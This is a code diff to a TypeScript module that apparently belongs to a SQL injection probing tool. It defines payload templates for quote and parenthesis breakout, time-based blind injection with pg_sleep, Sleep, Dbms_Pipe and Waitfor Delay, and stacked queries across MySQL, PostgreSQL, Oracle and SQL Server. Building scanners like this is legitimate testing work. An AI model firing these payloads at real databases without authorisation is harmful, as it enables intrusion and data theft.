@@ -2,6 +2,7 @@
  * Every payload of this module, as tables, so that a test can hold each of them against the rules of harmless.ts.
  * `v` is the value that stood in the place. No spaces where SQL allows: filters often strip them.
  */
+import { joining } from '../probing/prober.ts'
 
 /** How a predicate is put behind the value so that the rest of the statement still parses. */
 export interface Boundary {
@@ -10,6 +11,8 @@ export interface Boundary {
   readonly fits: 'number' | 'name' | 'order' | 'text'
   /** 'narrows' keeps the original rows where the predicate holds; 'widens' shows others and is for reading requests only. */
   readonly kind: 'narrows' | 'widens'
+  /** Its first true answer is one that other modules ask for, too. */
+  readonly quote?: "'" | '"'
   readonly with: (v: string, predicate: string) => string
 }
 
@@ -19,8 +22,7 @@ const OVERFLOW = 'abs(-9223372036854775807-1)'
 export const BOUNDARIES: readonly Boundary[] = [
   { name: 'number', fits: 'number', kind: 'narrows', with: (v, p) => `${v}-(Case/**/When(${p})Then(0)Else(98765)End)` },
   { name: 'number, and', fits: 'number', kind: 'narrows', with: (v, p) => `${v}/**/And(${p})` },
-  { name: 'number in parentheses', fits: 'number', kind: 'narrows', with: (v, p) => `${v})And(${p}` },
-  { name: "text in '", fits: 'text', kind: 'narrows', with: (v, p) => `${v}'And(${p})And'q'='q` },
+  { name: "text in '", fits: 'text', kind: 'narrows', quote: "'", with: (v, p) => joining(v, "'", p) },
   {
     name: "text in ', joined",
     fits: 'text',
@@ -29,7 +31,7 @@ export const BOUNDARIES: readonly Boundary[] = [
   },
   { name: "pattern of Like in '", fits: 'text', kind: 'narrows', with: (v, p) => `${v}%'And(${p})And'%'='` },
   { name: "text in ' in parentheses", fits: 'text', kind: 'narrows', with: (v, p) => `${v}')And(${p})And('q'='q` },
-  { name: 'text in "', fits: 'text', kind: 'narrows', with: (v, p) => `${v}"And(${p})And"q"="q` },
+  { name: 'text in "', fits: 'text', kind: 'narrows', quote: '"', with: (v, p) => joining(v, '"', p) },
   {
     name: 'order',
     fits: 'order',
@@ -101,12 +103,8 @@ const ANY = ['text', 'number'] as const
 /** Where a condition or an expression within the statement would not parse: a limit, a name. */
 const BARE = ['number', 'name'] as const
 const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
-/**
- * Behind a number the comment hides the first of the two, behind text the line comment hides the second. A bare name keeps
- * its own: it may be that of a table.
- */
-const followed = (v: string, statement: string): string =>
-  isName(v) ? `${v};${statement}-- -` : `${number(v)}/*';${statement}-- */;${statement}-- -`
+/** Behind a number the comment hides the first of the two, behind text the line comment hides the second. */
+const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
 export const isName = (v: string): boolean => /^[A-Za-z_][\w.]{0,40}$/.test(v)
 const mysql = (s: string): string => `(Select 0 From(Select Sleep(${s}))x)`
 
@@ -123,26 +121,29 @@ export const WAITING: readonly Waiting[] = [
     fits: ANY,
     with: (v, s) => `${number(v)}-(Select 0 From pg_sleep(${s}))/*'||(Select '' From pg_sleep(${s}))||'*/`,
   },
-  { dbms: 'PostgreSQL', technique: 'time', fits: ['order'], with: (v, s) => `${v},(Select 1 From pg_sleep(${s}))` },
+  { dbms: 'PostgreSQL', technique: 'time', fits: ['name'], with: (v, s) => `${v},(Select 1 From pg_sleep(${s}))` },
   {
     dbms: 'Oracle',
     technique: 'time',
     fits: ANY,
     with: (v, s) => `${number(v)}-Dbms_Pipe.Receive_Message('q',${s})/*'||Dbms_Pipe.Receive_Message('q',${s})||'*/`,
   },
-  { dbms: 'PostgreSQL', technique: 'stacked', fits: BARE, with: (v, s) => followed(v, `Select pg_sleep(${s})`) },
-  { dbms: 'MySQL', technique: 'stacked', fits: BARE, with: (v, s) => followed(v, `Select Sleep(${s})`) },
+  {
+    // MySQL runs what stands in a comment of its own, and only then fails at the rest.
+    dbms: 'MySQL or PostgreSQL',
+    technique: 'stacked',
+    fits: BARE,
+    with: (v, s) => `${v};/*!Select Sleep(${s});*/Select pg_sleep(${s})-- -`,
+  },
   {
     dbms: 'Microsoft SQL Server',
     technique: 'stacked',
     fits: ANY,
-    // Names, too, are tried as what stands in quotes: there is no other way of waiting here.
-    with: (v, s) => followed(isName(v) ? '' : v, `Waitfor Delay '0:0:${s}'`),
+    with: (v, s) => followed(v, `Waitfor Delay '0:0:${s}'`),
   },
 ]
 
-/** Text that no statement survives, in one go for every kind of quotes, and its harmless twin. */
-export const breaking = (v: string): string => `${v}'"\\)`
+/** The harmless twin of what breaks a statement. */
 export const doubled = (v: string): string => `${v}''`
 
 /** Shows the product of two numbers between two words, as a column of a second result. */
